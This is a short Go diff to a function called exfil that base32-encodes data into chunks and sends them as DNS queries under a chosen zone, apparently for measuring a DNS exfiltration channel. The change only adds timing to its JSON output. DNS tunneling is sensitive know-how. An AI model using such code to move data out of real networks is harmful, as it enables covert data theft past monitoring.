@@ -312,6 +312,7 @@ func exfil(zone, bytesArg, secsArg string) {
 	enc := base32.StdEncoding.WithPadding(base32.NoPadding)
 	deadline := time.Now().Add(time.Duration(secs) * time.Second)
 	sent, answered := 0, 0
+	start := time.Now()
 	r := &net.Resolver{PreferGo: true}
 	for i := 0; i*per < len(data) && time.Now().Before(deadline); i++ {
 		chunk := strings.ToLower(enc.EncodeToString(data[i*per : min(len(data), (i+1)*per)]))
@@ -330,5 +331,5 @@ func exfil(zone, bytesArg, secsArg string) {
 			answered++
 		}
 	}
-	json.NewEncoder(os.Stdout).Encode(map[string]int{"sent": sent, "answered": answered, "perName": per})
+	json.NewEncoder(os.Stdout).Encode(map[string]int{"sent": sent, "answered": answered, "perName": per, "ms": int(time.Since(start).Milliseconds())})
 }
